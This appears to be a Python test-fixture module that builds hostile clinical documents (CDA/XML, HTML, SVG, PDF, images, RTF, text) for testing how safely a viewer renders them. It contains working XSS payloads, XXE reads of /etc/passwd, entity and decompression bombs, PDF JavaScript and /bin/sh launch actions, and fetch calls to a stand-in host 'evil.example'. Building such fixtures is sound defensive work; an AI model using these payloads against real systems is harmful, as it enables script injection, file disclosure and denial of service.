"""Documents that attack whoever opens them: CDA, HTML, SVG, XML, PDF, images, text (threats I9 to I16; ui 7.3).

Every one is made here by code. Its id begins with the row of the catalogue; `form` is how it may be drawn, `texts` is
what a reader must still see of it. `EVIL` is a place that nothing may ask for.
"""

from __future__ import annotations

import gzip
import io
import struct
import zlib
from base64 import b64encode
from collections.abc import Iterator
from dataclasses import dataclass
from html import escape

from PIL import Image

EVIL = "https://evil.example"
SCRIPT = f"alert('ran');top.location='{EVIL}/top';fetch('{EVIL}/fetch');document.title='ran'"


@dataclass(frozen=True)
class Hostile:
    """One document; `ending` is that of the file it is submitted as."""

    id: str
    content: bytes
    form: str
    texts: tuple[str, ...] = ()
    ending: str = ".xml"


def cda(
    narrative: str, *, title: str = "T", head: str = "", entries: str = "", body: str = "", prolog: str = ""
) -> bytes:
    """A ClinicalDocument around a narrative."""
    body = body or (
        f"<structuredBody><component><section><title>{title}</title><text>{narrative}</text>{entries}</section>"
        "</component></structuredBody>"
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<ClinicalDocument xmlns="urn:hl7-org:v3" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xlink="http://www.w3.org/1999/xlink">'
        '<typeId root="2.16.840.1.113883.1.3" extension="POCD_HD000040"/><id root="2.25.1" extension="h"/>'
        '<code code="34133-9" codeSystem="2.16.840.1.113883.6.1" displayName="Summary"/>'
        f'<title>{title}</title><effectiveTime value="20260101"/>'
        '<confidentialityCode code="N" codeSystem="2.16.840.1.113883.5.25"/><languageCode code="en"/>'
        f"{head}<component>{body}</component></ClinicalDocument>"
    ).encode()


def _attribute(text: str) -> str:
    return escape(text, quote=True)


def _media(kind: str, content: bytes, identifier: str = "m1") -> str:
    return (
        f'<entry><observationMedia classCode="OBS" moodCode="EVN" ID="{identifier}"><value mediaType="{kind}" '
        f'representation="B64">{b64encode(content).decode()}</value></observationMedia></entry>'
    )


NARRATIVES = {
    "I10-script": f"<paragraph>seen<script>{escape(SCRIPT)}</script></paragraph>",
    "I10-script-in-capitals": f"<SCRIPT>{escape(SCRIPT)}</SCRIPT><paragraph>seen</paragraph>",
    "I10-script-in-cdata": f"<paragraph><![CDATA[seen<script>{SCRIPT}</script>]]></paragraph>",
    "I10-script-as-entities": f"<paragraph>seen&lt;script&gt;{escape(SCRIPT)}&lt;/script&gt;</paragraph>",
    "I10-script-as-numbers": "<paragraph>seen&#60;img src=x onerror=alert(1)&#62;</paragraph>",
    "I10-script-twice-escaped": "<paragraph>seen&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</paragraph>",
    "I10-script-of-html": f'<x xmlns="http://www.w3.org/1999/xhtml"><script src="{EVIL}/a.js"/></x><paragraph>seen</paragraph>',
    "I10-onload": '<paragraph onload="alert(1)" onmouseover="alert(1)" onfocus="alert(1)" tabindex="0">seen</paragraph>',
    "I10-table-attributes": f'<table onmouseover="alert(1)" background="{EVIL}/b" style="x:expression(alert(1))"><tr><td background="{EVIL}/c" onclick="alert(1)">seen</td></tr></table>',
    "I10-colspan": '<table><tr><td colspan="1&quot; onclick=&quot;alert(1)">seen</td><td rowspan="99999999">seen</td></tr></table>',
    "I10-javascript-link": '<linkHtml href="javascript:alert(1)">seen</linkHtml>',
    "I10-javascript-link-mixed": '<linkHtml href="&#1;JaVa&#9;ScRiPt:alert(1)">seen</linkHtml>'.replace("&#1;", ""),
    "I10-data-link": '<linkHtml href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">seen</linkHtml>',
    "I10-vbscript-link": '<linkHtml href="vbscript:msgbox(1)">seen</linkHtml>',
    "I10-xlink": '<a xlink:href="javascript:alert(1)">seen</a><linkHtml xlink:href="javascript:alert(2)">seen</linkHtml>',
    "I10-link-breaks-out": '<linkHtml href="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">seen</linkHtml>',
    "I10-style-code-breaks-out": '<content styleCode="bold&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">seen</content>',
    "I10-id-breaks-out": '<footnote ID="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">seen</footnote><footnoteRef IDREF="x&quot;&gt;"/>',
    "I10-remote-image": f'<img src="{EVIL}/i.png"/><paragraph>seen</paragraph>',
    "I10-remote-picture-set": f'<picture><source srcset="{EVIL}/s.png"/><img srcset="{EVIL}/t.png 2x"/></picture><paragraph>seen</paragraph>',
    "I10-remote-video": f'<video src="{EVIL}/v" poster="{EVIL}/p" autoplay="1"/><audio src="{EVIL}/a"/><paragraph>seen</paragraph>',
    "I10-iframe": f'<iframe src="{EVIL}/f">seen</iframe><frame src="{EVIL}/g"/><paragraph>seen</paragraph>',
    "I10-empty-iframe": "<iframe/><textarea/><title/><paragraph>seen</paragraph>",
    "I10-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">seen</iframe>',
    "I10-object-and-embed": f'<object data="{EVIL}/o"><embed src="{EVIL}/e"/>seen</object>',
    "I10-style-import": f"<style>@import '{EVIL}/s.css'; body{{background:url({EVIL}/u)}}</style><paragraph>seen</paragraph>",
    "I10-style-hides": '<paragraph style="display:none">seen</paragraph><content style="color:#fff;font-size:0">seen</content>',
    "I10-link-prefetch": f'<link rel="prefetch" href="{EVIL}/p"/><link rel="stylesheet" href="{EVIL}/c"/><link rel="icon" href="{EVIL}/i"/><paragraph>seen</paragraph>',
    "I10-base": f'<base href="{EVIL}/"/><linkHtml href="#s1">seen</linkHtml>',
    "I10-meta-refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/r"/><paragraph>seen</paragraph>',
    "I10-form": f'<form action="{EVIL}/login"><input name="password"/><button>seen</button></form>',
    "I10-ping": f'<a href="{EVIL}/h" ping="{EVIL}/ping" target="_top">seen</a>',
    "I10-dns-prefetch": '<link rel="dns-prefetch" href="//evil.example"/><link rel="preconnect" href="//evil.example"/><paragraph>seen</paragraph>',
    "I10-overlay": '<paragraph style="position:fixed;inset:0;z-index:9999;background:#fff">seen</paragraph>',
    "I10-imitates-our-banner": "<paragraph>LI, Wei Born 14 Mar 1961 seen ✓ unchanged since it was registered</paragraph>",
    "I10-template-and-noscript": f'<template><img src="{EVIL}/t"/></template><noscript><img src="{EVIL}/n"/></noscript><paragraph>seen</paragraph>',
    "I11-svg-with-script": f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><use href="{EVIL}/u"/><text>seen</text></svg>',
    "I11-svg-foreign-object": '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)">seen</body></foreignObject></svg>',
    "I11-mathml-mutation": '<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><table><mglyph><style><img src="x" onerror="alert(1)"/></style></mglyph></table></mtext></math><paragraph>seen</paragraph>',
    "I11-comment-mutation": "<paragraph>seen<!-- --><![CDATA[<!--><img src=x onerror=alert(1)>-->]]></paragraph>",
    "I14-multimedia-of-nothing": '<renderMultiMedia referencedObject="none"/><paragraph>seen</paragraph>',
    "I16-white-text": '<content styleCode="xWhite xSmall xHidden">seen</content>',
    "I16-struck": '<content styleCode="Strikethrough">aspirin</content><content revised="delete">heparin</content><paragraph>seen</paragraph>',
    "I16-struck-row": '<table><tbody><tr revised="delete"><td>warfarin</td></tr></tbody></table><paragraph>seen</paragraph>',
    "I16-turned-around": "<paragraph>seen dose \u202e05\u202c mg</paragraph>",
    "I16-zero-width": "<paragraph>seen NO\u200bT\u2060 allergic\ufeff</paragraph>",
    "I16-combining-flood": "<paragraph>seen" + "a" + "\u0301" * 500 + "</paragraph>",
    "I16-text-tall": "<paragraph>seen</paragraph>" + "<br/>" * 20_000 + "<paragraph>seen at the end</paragraph>",
}  # fmt: skip


def _narratives() -> Iterator[Hostile]:
    for name, narrative in NARRATIVES.items():
        yield Hostile(name, cda(narrative), "cda", ("seen",))


def _cdas() -> Iterator[Hostile]:
    breaking = _attribute(f"<img src='{EVIL}/t' onerror='alert(1)'>")
    yield Hostile("I10-script-in-title", cda("<paragraph>seen</paragraph>", title=breaking), "cda", ("seen", "onerror"))
    author = (
        '<author><time value="20260101"/><assignedAuthor><id root="1.2"/><assignedPerson><name>'
        f"{breaking}</name></assignedPerson></assignedAuthor></author>"
    )
    yield Hostile("I10-script-in-author", cda("seen", head=author), "cda", ("seen", "onerror"))
    patient = (
        f'<recordTarget><patientRole><id root="1.2" extension="{breaking}"/><patient><name>{breaking}</name>'
        f'<birthTime value="{breaking}"/></patient></patientRole></recordTarget>'
    )
    yield Hostile("I10-script-in-patient", cda("seen", head=patient), "cda", ("seen", "onerror"))
    for name, target in (
        ("I9-stylesheet-instruction", f'<?xml-stylesheet type="text/xsl" href="{EVIL}/evil.xsl"?>'),
        ("I9-stylesheet-css", f'<?xml-stylesheet type="text/css" href="{EVIL}/evil.css"?>'),
    ):
        yield Hostile(name, cda("<paragraph>seen</paragraph>", prolog=target), "cda", ("seen",))
    for name, target in (("I14-file", "file:///etc/passwd"), ("I14-http", EVIL + "/m.png")):
        media = (
            '<entry><observationMedia ID="m1"><value mediaType="image/png"><reference value="'
            f'{target}"/></value></observationMedia></entry>'
        )
        narrative = '<renderMultiMedia referencedObject="m1"/>seen'
        yield Hostile(name, cda(narrative, entries=media), "cda", ("seen", target.rpartition("/")[2]))
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><image href="{EVIL}/x"/></svg>'.encode()
    shown = '<renderMultiMedia referencedObject="m1"/>seen'
    yield Hostile("I11-embedded-svg", cda(shown, entries=_media("image/svg+xml", svg)), "cda", ("seen",))
    yield Hostile("I11-svg-called-png", cda(shown, entries=_media("image/png", svg)), "cda", ("seen",))
    html = f"<html><script>{SCRIPT}</script></html>".encode()
    yield Hostile("I11-embedded-html", cda(shown, entries=_media("text/html", html)), "cda", ("seen",))
    kind = 'image/png" onerror="alert(1)'
    yield Hostile("I14-media-type-breaks-out", cda(shown, entries=_media(_attribute(kind), png())), "cda", ("seen",))
    yield Hostile("I15-embedded-bomb", cda(shown, entries=_media("image/png", png_bomb())), "cda", ("seen",))
    yield Hostile("I12-embedded-pdf", cda(shown, entries=_media("application/pdf", ACTIVE_PDF)), "cda", ("seen",))
    for name, inside in {
        "I11-body-html": '<text mediaType="text/html" representation="B64">' + b64encode(html).decode() + "</text>",
        "I11-body-html-plain": f'<text mediaType="text/html">{escape(html.decode())}seen</text>',
        "I14-body-elsewhere": f'<text mediaType="application/pdf"><reference value="{EVIL}/d.pdf"/></text>',
        "I14-body-javascript": '<text mediaType="text/html"><reference value="javascript:alert(1)"/></text>',
        "I10-body-image-html": '<text mediaType="image/png" representation="B64">'
        + b64encode(html).decode()
        + "</text>",
    }.items():
        yield Hostile(name, cda("", body=f"<nonXMLBody>{inside}</nonXMLBody>"), "cda")
    inside = f'<text mediaType="application/pdf" representation="B64">{b64encode(ACTIVE_PDF).decode()}</text>'
    yield Hostile("I12-body-pdf-active", cda("", body=f"<nonXMLBody>{inside}</nonXMLBody>"), "pdf")
    negated = (
        '<entry><observation negationInd="true"><code code="1" displayName="Penicillin allergy"/></observation></entry>'
    )
    yield Hostile("I16-negated", cda("Allergy seen", entries=negated), "cda", ("seen", "NOT", "Penicillin allergy"))
    flavored = cda("").replace(b"<text></text>", b'<text nullFlavor="NASK"/>')
    yield Hostile("I16-null-flavor", flavored, "cda", ("not asked",))
    lost = "<structuredBody><section><title>lost</title><text>seen</text></section></structuredBody>"
    yield Hostile("I16-outside-of-sections", cda("", body=lost), "cda", ("seen", "lost"))
    entries = "<entry><act/></entry>" * 6
    yield Hostile("I16-entries-without-text", cda("", entries=entries), "cda", ("without text: 6",))


def _xmls() -> Iterator[Hostile]:
    def with_dtd(inside: str, text: str = "&x;") -> bytes:
        return cda(f"<paragraph>seen {text}</paragraph>", prolog=f"<!DOCTYPE ClinicalDocument [{inside}]>")

    yield Hostile("I9-external-entity", with_dtd('<!ENTITY x SYSTEM "file:///etc/passwd">'), "text", ("seen",))
    yield Hostile("I9-parameter-entity", with_dtd(f'<!ENTITY % p SYSTEM "{EVIL}/p.dtd"> %p;', ""), "text", ("seen",))
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    yield Hostile("I15-billion-laughs", with_dtd('<!ENTITY l0 "lol">' + lol, "&l9;"), "text", ("seen",))
    yield Hostile("I15-quadratic", with_dtd(f'<!ENTITY x "{"a" * 50_000}">', "&x;" * 5_000), "text", ("seen",))
    yield Hostile("I9-dtd", cda("seen", prolog=f'<!DOCTYPE ClinicalDocument SYSTEM "{EVIL}/d.dtd">'), "text", ("seen",))
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{EVIL}/i" parse="text"/>seen'
    yield Hostile("I9-xinclude", cda(include), "cda", ("seen",))
    yield Hostile("I15-deep", cda("<content>" * 100_000 + "seen" + "</content>" * 100_000), "text", ("seen",))
    yield Hostile("I15-deep-sections", _deep_sections(20), "cda", ("innermost",))
    yield Hostile("I15-huge-attribute", cda(f'<content styleCode="{"a" * 3_000_000}">seen</content>'), "cda", ("seen",))
    yield Hostile(
        "I9-utf-16", cda("seen", prolog="").decode().replace("UTF-8", "UTF-16").encode("utf-16"), "cda", ("seen",)
    )
    yield Hostile("I9-utf-32", cda("seen").decode().encode("utf-32"), "text", ("seen",))
    yield Hostile(
        "I9-utf-7", cda("+ADw-script+AD4-alert(1)+ADw-/script+AD4- seen").replace(b"UTF-8", b"UTF-7"), "text", ("seen",)
    )
    yield Hostile(
        "I9-wrong-charset",
        cda("caf\u00e9 seen").decode().encode("latin-1"),
        "cda",
        ("caf\u00e9 seen", "declared wrongly"),
    )
    yield Hostile("I9-nul", cda("seen").replace(b"seen", b"seen\0"), "text", ("seen", "U+0000"))
    yield Hostile("I9-surrogate", cda("seen &#xD800;"), "text", ("seen",))
    yield Hostile(
        "I9-xslt",
        f'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="{EVIL}/x"/></xsl:stylesheet>'.encode(),
        "none",
    )
    yield Hostile("I9-other-namespace", cda("seen").replace(b"urn:hl7-org:v3", b"urn:other"), "none")


def _deep_sections(levels: int) -> bytes:
    inside = "<text>innermost</text>"
    for level in range(levels):
        inside = f"<title>{level}</title><component><section>{inside}</section></component>"
    return cda("", body=f"<structuredBody><component><section>{inside}</section></component></structuredBody>")


def _others() -> Iterator[Hostile]:
    page = f"<!doctype html><html><body onload=\"{SCRIPT}\"><img src='{EVIL}/i'>text</body></html>".encode()
    yield Hostile("I11-html", page, "none", ending=".html")
    yield Hostile("I13-html-called-text", page, "none", ending=".txt")
    yield Hostile("I13-html-after-text", b"text first\n" + page, "none", ending=".txt")
    yield Hostile("I13-html-utf-16", page.decode().encode("utf-16"), "none", ending=".txt")
    yield Hostile("I13-html-fragment", b"Report <img src=x onerror=alert(1)> end", "none", ending=".txt")
    yield Hostile(
        "I13-html-late", b"seen " * 2000 + f"<script>{SCRIPT}</script>".encode(), "text", ("seen", "script"), ".txt"
    )
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{SCRIPT}</script></svg>'.encode()
    yield Hostile("I11-svg", svg, "none", ending=".svg")
    yield Hostile(
        "I11-svg-with-declaration",
        b'<?xml version="1.0"?><!-- a --><s:svg xmlns:s="http://www.w3.org/2000/svg"/>',
        "none",
        ending=".svg",
    )
    yield Hostile("I11-svg-gzip", gzip.compress(svg, mtime=0), "none", ending=".svgz")
    yield Hostile(
        "I11-mhtml",
        b"From: x\nMIME-Version: 1.0\nContent-Type: multipart/related\n\n<html><script>alert(1)</script>",
        "none",
        ending=".mht",
    )
    yield Hostile("I13-executable", b"MZ" + bytes(200), "none", ending=".pdf")
    yield Hostile("I13-dicom-with-program", b"MZ" + bytes(126) + b"DICM" + bytes(100), "none", ending=".dcm")
    yield Hostile("I13-zip", b"PK\x03\x04" + bytes(100), "none", ending=".docx")
    rtf = rb"{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\object\objocx{\*\objdata 0105}}seen {\strike stopped} {\v secret}\par <script>alert(1)</script>}"
    yield Hostile("I13-rtf", rtf, "text", ("seen", "stopped", "secret", "<script>"), ".rtf")
    yield Hostile("I15-rtf-deep", rb"{\rtf1 " + b"{" * 200_000 + b"seen", "text", ("seen",), ".rtf")
    yield Hostile(
        "I16-text-turned",
        "seen gnp.\u202eexe \x1b[31mred\x1b[0m".encode(),
        "text",
        ("seen", "U+202E", "U+001B"),
        ".txt",
    )
    yield Hostile("I16-text-long-line", b"seen " + b"x" * 1_000_000 + b" end", "text", ("seen", "end"), ".txt")
    yield Hostile("I16-text-formula", b'=HYPERLINK("https://evil.example","seen")', "text", ("seen",), ".csv")
    yield Hostile("I16-text-chinese", "患者 seen 无过敏史,体温正常".encode("gb18030"), "text", ("无过敏史",), ".txt")


def pdf(*objects: str, root: str = "") -> bytes:
    """A PDF of one page with these objects, from number 5 on."""
    stream = "BT /F1 24 Tf 72 700 Td (seen) Tj ET"
    parts = [
        f"<< /Type /Catalog /Pages 2 0 R {root} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 "
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
        f"<< /Length {len(stream)} >>\nstream\n{stream}\nendstream",
        *objects,
    ]
    return _pdf_of([part.encode("latin-1") for part in parts])


def _pdf_of(parts: list[bytes]) -> bytes:
    out, places = io.BytesIO(), []
    out.write(b"%PDF-1.7\n")
    for number, part in enumerate(parts, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n" % number + part + b"\nendobj\n")
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(parts) + 1, start))
    return out.getvalue()


_JS = f"/OpenAction << /S /JavaScript /JS (app.alert\\('ran'\\);this.submitForm\\('{EVIL}/js'\\)) >>"
ACTIVE_PDF = pdf(root=_JS)


def _pdfs() -> Iterator[Hostile]:
    page = pdf()
    roots = {
        "I12-javascript": _JS,
        "I12-named-javascript": "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>",
        "I12-launch": "/OpenAction << /S /Launch /F (/bin/sh) >>",
        "I12-uri": f"/OpenAction << /S /URI /URI ({EVIL}/uri) >>",
        "I12-submit": f"/OpenAction << /S /SubmitForm /F ({EVIL}/submit) >>",
        "I12-go-to-remote": f"/OpenAction << /S /GoToR /F ({EVIL}/r.pdf) >>",
        "I12-xfa": "/AcroForm << /XFA (<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>) >>",
    }
    for name, root in roots.items():
        yield Hostile(name, pdf(root=root), "pdf", ending=".pdf")
    attached = "<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\\0\\0\nendstream"
    names = "/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>] >> >>"
    yield Hostile("I12-embedded-file", pdf(attached, root=names), "pdf", ending=".pdf")
    elsewhere = page.replace(b"/Contents 4 0 R", f"/Contents << /Length 0 /F ({EVIL}/s) >>".encode())
    yield Hostile("I12-external-stream", elsewhere, "pdf", ending=".pdf")
    yield Hostile("I15-pdf-page-huge", page.replace(b"595 842", b"1000000 1000000"), "pdf", ending=".pdf")
    kids = page.replace(b"[3 0 R] /Count 1", b"[2 0 R 3 0 R] /Count 2")
    yield Hostile("I15-pdf-page-loop", kids, "pdf|failed", ending=".pdf")
    many = page.replace(b"[3 0 R] /Count 1", b"[" + b"3 0 R " * 50_000 + b"] /Count 50000")
    yield Hostile("I15-pdf-50000-pages", many, "pdf", ending=".pdf")
    bomb = zlib.compress(b"q Q " * 16_000_000, 9)
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(bomb) + bomb + b"\nendstream"
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        stream,
    ]
    yield Hostile("I15-pdf-inflates", _pdf_of(parts), "pdf|failed", ending=".pdf")
    yield Hostile("I12-pdf-damaged", page[: len(page) // 3], "pdf|failed", ending=".pdf")
    encrypted = page.replace(
        b"/Root 1 0 R",
        b"/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O ("
        + b"a" * 32
        + b") /U ("
        + b"b" * 32
        + b") /P -4 >> /ID [(1)(1)]",
    )
    yield Hostile("I12-pdf-encrypted", encrypted, "failed", ending=".pdf")
    yield Hostile("I13-polyglot-html-first", b"<html><script>alert(1)</script></html>\n" + page, "none", ending=".pdf")
    yield Hostile(
        "I13-polyglot-pdf-first", page + f"<html><script>{SCRIPT}</script></html>".encode(), "pdf", ending=".pdf"
    )


def png(width: int = 8, height: int = 8) -> bytes:
    """A small image."""
    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(out, "PNG")
    return out.getvalue()


def png_bomb(side: int = 60_000) -> bytes:
    """An image of 3.6 thousand million pixels in a few kilobytes."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(1_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _images() -> Iterator[Hostile]:
    yield Hostile("I15-png-bomb", png_bomb(), "failed", ending=".png")
    frames = io.BytesIO()
    small = Image.new("P", (4, 4))
    small.save(frames, "GIF", save_all=True, append_images=[Image.new("P", (4, 4), n % 2) for n in range(300)])
    yield Hostile("I15-gif-frames", frames.getvalue(), "image", ending=".gif")
    jpeg, told = io.BytesIO(), Image.Exif()
    told[0x010E] = f"<script>{SCRIPT}</script>"
    told[0x013B] = "name of a patient"
    Image.new("RGB", (16, 16)).save(jpeg, "JPEG", exif=told)
    yield Hostile("I13-jpeg-with-html", jpeg.getvalue(), "image", ending=".jpg")
    yield Hostile("I13-jpeg-called-html", jpeg.getvalue(), "image", ending=".html")
    tiff = io.BytesIO()
    Image.new("L", (16, 16)).save(tiff, "TIFF")
    odd = tiff.getvalue()
    yield Hostile("I13-tiff", odd, "image", ending=".tif")
    yield Hostile("I15-tiff-loop", _looped(odd), "image|failed", ending=".tif")
    yield Hostile("I15-tiff-odd-tags", odd.replace(b"\x00\x01", b"\xff\xff"), "image|failed", ending=".tif")
    coloured = io.BytesIO()
    Image.new("RGB", (8, 8)).save(coloured, "PNG", icc_profile=bytes(4_000_000))
    yield Hostile("I15-icc-bomb", coloured.getvalue(), "image|failed", ending=".png")
    text = io.BytesIO()
    Image.new("RGB", (8, 8)).save(text, "PNG")
    yield Hostile("I13-png-cut", text.getvalue()[:40], "failed", ending=".png")
    yield Hostile("I13-png-then-html", png() + f"<script>{SCRIPT}</script>".encode(), "image", ending=".png")


def _looped(tiff: bytes) -> bytes:
    """The list of images in a TIFF leads back to its beginning."""
    at = struct.unpack_from("<I", tiff, 4)[0]
    count = struct.unpack_from("<H", tiff, at)[0]
    end = at + 2 + 12 * count
    return tiff[:end] + struct.pack("<I", at) + tiff[end + 4 :]


DOCUMENTS = (*_narratives(), *_cdas(), *_xmls(), *_others(), *_pdfs(), *_images())
